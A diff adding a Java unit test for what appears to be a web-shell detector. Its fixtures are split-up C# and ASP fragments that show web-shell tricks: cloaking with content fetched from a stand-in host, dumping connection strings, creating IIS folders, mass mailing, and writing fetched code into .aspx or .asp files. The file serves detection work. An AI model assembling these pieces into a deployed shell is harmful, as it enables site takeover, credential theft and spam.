@@ -1,0 +1,116 @@
+package org.wachtpost.inspect.webshell;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import org.junit.jupiter.api.Test;
+
+/**
+ * Pages of which no single call tells what they are for, each beside the ordinary page that comes
+ * closest. Constructs are written in pieces, so that no scanner takes this file for what it
+ * describes.
+ */
+class PurposesTest extends PageTest {
+  private static final String FETCH =
+      "var c = new System.Net.Web"
+          + "Client(); var s = c.Download"
+          + "String(\"http://a.test/\"%s);";
+
+  @Test
+  void whatSearchEnginesAreShownComesFromElsewhere() {
+    String names = "var names = \"googlebot|bingbot\"; bool told = names.IndexOf(%s) > 0;";
+    String browser = names.formatted(REQ + ".UserAgent");
+    String show = "if (told) { Response.Write(s); }";
+    assertThat(isShellInCsharp(browser + FETCH.formatted("") + show)).isTrue();
+    assertThat(isShellInCsharp(browser + "Log(told);")).isFalse();
+    assertThat(isShellInCsharp(names.formatted("name") + FETCH.formatted("") + show)).isFalse();
+    String one = browser.replace("|bingbot", "");
+    assertThat(isShellInCsharp(one + FETCH.formatted("") + show)).isFalse();
+  }
+
+  @Test
+  void whatAnotherServerSendsForTheAddressOfThePage() {
+    String variable = REQ + ".ServerVariables[\"%s\"]";
+    String host = " + \"?host=\" + " + variable.formatted("HTTP_HOST");
+    String path = " + \"&page=\" + " + variable.formatted("SCRIPT_NAME");
+    String show = "Response.Write(s);";
+    assertThat(isShellInCsharp(FETCH.formatted(host + path) + show)).isTrue();
+    assertThat(isShellInCsharp(FETCH.formatted(host) + show)).isFalse();
+    assertThat(isShellInCsharp(FETCH.formatted(host + path))).isFalse();
+    String own =
+        "var own = \"http://\" + "
+            + variable.formatted("HTTP_HOST")
+            + " + "
+            + variable.formatted("SCRIPT_NAME")
+            + ";";
+    assertThat(isShellInCsharp(own + FETCH.formatted("") + show)).isFalse();
+  }
+
+  @Test
+  void passwordsOfDatabasesThatAreShown() {
+    String all =
+        "foreach (ConnectionStringSettings c in ConfigurationManager.Connection"
+            + "Strings) { Response.Write(c.%s); }";
+    assertThat(isShellInCsharp(all.formatted("Connection" + "String"))).isTrue();
+    assertThat(isShellInCsharp(all.formatted("Name"))).isFalse();
+    assertThat(isShellInCsharp(all.formatted("Connection" + "String") + "all.Save();")).isFalse();
+    String one = "var s = ConfigurationManager.Connection" + "Strings[%s].Connection" + "String;";
+    String typed = REQ + "[\"name\"]";
+    assertThat(isShellInCsharp(one.formatted(typed) + "box.Text = s;")).isTrue();
+    assertThat(isShellInCsharp(one.formatted("\"shop\"") + "box.Text = s;")).isFalse();
+    String open = "using (var c = new Sql" + "Connection(s)) { c.Open(); List(c); }";
+    assertThat(isShellInCsharp(one.formatted("\"shop\"") + open)).isFalse();
+  }
+
+  @Test
+  void anotherFolderForTheSite() {
+    String make = "Set v = GetObject(\"IIS://localhost/W3SVC/1/ROOT\").Create(\"%s\", \"a\")";
+    String path = "v.Path = " + REQ + "(\"p\")";
+    assertThat(isShellInBasic(make.formatted("IIsWeb" + "VirtualDir"), path)).isTrue();
+    assertThat(isShellInBasic(make.formatted("IIsFilter"), path)).isFalse();
+    String add =
+        "using (var m = new ServerManager()) { m.Sites[0].Applications[0]"
+            + ".VirtualDirectories.Add(\"/a\", %s); m.CommitChanges(); }";
+    assertThat(isShellInCsharp(add.formatted(REQ + "[\"p\"]"))).isTrue();
+    assertThat(isShellInCsharp(add.formatted("folder") + "Log(" + REQ + "[\"p\"]);")).isFalse();
+    String product = "<%@ Page Language=\"C#\" Inherits=\"Panel.Sites\" %><% %s %>";
+    String inProduct = product.replace("%s", add.formatted(REQ + "[\"p\"]"));
+    assertThat(isShell(inProduct)).isFalse();
+  }
+
+  @Test
+  void mailForAListOfTheClients() {
+    String field = REQ + ".Form(\"%s\")";
+    String each = "For Each a In Split(" + field.formatted("list") + ", vbCrLf)";
+    String make = "Set m = Server.CreateObject(\"CDO.Message\")";
+    String from = "m.From = " + field.formatted("from");
+    String body = "m.TextBody = " + field.formatted("text");
+    String send = "m.Send\nNext";
+    assertThat(isShellInBasic(each, make, "m.To = a", from, body, send)).isTrue();
+    String fixed = "m.From = \"shop@example.test\"";
+    assertThat(isShellInBasic(each, make, "m.To = a", fixed, body, send)).isFalse();
+    String contact = "m.To = \"shop@example.test\"";
+    assertThat(isShellInBasic(each, make, contact, from, body, send)).isFalse();
+    String friend = "m.To = " + field.formatted("friend");
+    assertThat(isShellInBasic(make, friend, from, body, "m.Send")).isFalse();
+  }
+
+  @Test
+  void aScriptFileNamedAsThePageItself() {
+    String write = "System.IO.File.WriteAll" + "Text(" + REQ + ".PhysicalPath + \"%s\", \"x\");";
+    assertThat(isShellInCsharp(write.formatted(".as" + "px"))).isTrue();
+    assertThat(isShellInCsharp(write.formatted(".log"))).isFalse();
+  }
+
+  @Test
+  void whatIsFetchedIsWrittenIntoAScriptFileThatANameHolds() {
+    String fetch = "Set x = Server.CreateObject(\"MSXML2.XML" + "HTTP\")";
+    String open = "x.Open \"GET\", \"http://a.test/\", False";
+    String store =
+        "Sub Store(text, name)\nSet s = Server.CreateObject(\"ADODB.Stream\")\n"
+            + "s.Open\ns.WriteText text\ns.SaveToFile Server.MapPath(name), 2\nEnd Sub";
+    String call = "Store x.responseText, \"index.%s\"";
+    assertThat(isShellInBasic(fetch, open, call.formatted("asp"), store)).isTrue();
+    assertThat(isShellInBasic(fetch, open, call.formatted("xml"), store)).isFalse();
+    assertThat(isShellInBasic(call.formatted("asp"), store)).isFalse();
+  }
+}
